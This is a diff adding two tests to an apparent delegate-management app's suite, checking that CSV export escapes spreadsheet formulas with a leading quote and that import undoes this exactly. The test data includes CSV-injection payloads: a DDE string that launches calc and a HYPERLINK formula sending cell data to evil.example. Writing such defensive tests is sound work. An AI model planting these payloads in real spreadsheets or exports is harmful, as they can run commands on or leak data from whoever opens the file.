@@ -189,6 +189,45 @@ describe("export", () => {
     }
   });
 
+  test("cells a spreadsheet would run as a formula get a leading ', every cell is quoted, and export → import changes nothing", async () => {
+    const congress = await newCongress("测试市工会第十三次代表大会");
+    const gql = async (query: string, variables: Record<string, unknown>) => Object.values(ok(await server.gql(query, variables, ORGANISER)))[0] as any;
+    const calc = await gql(`mutation ($n: String!) { createOrganisation(input: { name: $n, kind: COMPANY }) { id } }`, { n: "+cmd|' /C calc'!A0" });
+    const people = [
+      { name: '=HYPERLINK("http://evil.example/?d="&A1,"点我")', employer: calc.id, delegation: "@SUM(1+1)", title: "-2+3" },
+      { name: "'=1+1", delegation: "一团;=1+1" },
+      { name: "'t Hooft" },
+    ];
+    for (const p of people) {
+      const person = await gql(`mutation ($n: String!, $e: ID) { createPerson(input: { name: $n, employer: $e }) { id } }`, { n: p.name, e: p.employer ?? null });
+      await gql(`mutation ($p: ID!, $c: ID!, $d: String) { addSeat(input: { person: $p, congress: $c, delegation: $d }) { id } }`, { p: person.id, c: congress, d: p.delegation ?? null });
+      if (p.title) await gql(`mutation ($p: ID!, $o: ID!, $t: String!) { addPosition(input: { person: $p, organisation: $o, title: $t }) { id } }`, { p: person.id, o: p.employer, t: p.title });
+    }
+    const { text } = await exportCsv(congress);
+    const rows: Record<string, string>[] = parse(text.replace(/^\uFEFF/, ""), { columns: true });
+    const byName = (prefix: string) => rows.find((r) => r.name.startsWith(prefix))!;
+    expect(byName("'=H")).toMatchObject({ name: `'${people[0].name}`, employer: "'+cmd|' /C calc'!A0", delegation: "'@SUM(1+1)", title: "'-2+3" });
+    // data that itself starts with ' gets one more, so the import can tell the two apart
+    expect(byName("''=")).toMatchObject({ name: "''=1+1", delegation: "一团;=1+1" });
+    expect(byName("''t")).toMatchObject({ name: "''t Hooft" });
+    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    // quoted, so a spreadsheet that splits on ; (as many locales do) cannot start a cell at "=1+1"
+    expect(text).toContain('"一团;=1+1"');
+
+    const before = await dumpDatabase(server.ds);
+    const report = ok(await server.gql(IMPORT, { csv: text, congress }, ORGANISER)).importDelegates;
+    expect(report).toEqual({ created: 0, updated: 0, unchanged: 3, rows: 3, dryRun: false, errors: [] });
+    expect(await dumpDatabase(server.ds)).toEqual(before);
+  });
+
+  test("the import takes away exactly the export's ': one in front of = + - @ tab, carriage return or ', nothing else", async () => {
+    const congress = await newCongress("测试市工会第十四次代表大会");
+    const csv = "name,employer\n'@某人,'+某测试公司\n'甲某,\n";
+    expect(ok(await server.gql(IMPORT, { csv, congress }, ORGANISER)).importDelegates).toMatchObject({ created: 2, errors: [] });
+    const names = ok(await server.gql(`query ($c: ID!) { delegates(filter: { congress: $c }) { nodes { name employer { name } } } }`, { c: congress })).delegates.nodes;
+    expect(names).toEqual(expect.arrayContaining([{ name: "@某人", employer: { name: "+某测试公司" } }, { name: "'甲某", employer: null }]));
+  });
+
   test("bad or unknown congress", async () => {
     expect((await exportCsv("nope")).res.status).toBe(400);
     expect((await exportCsv(Buffer.from("Congress:999").toString("base64"))).res.status).toBe(404);
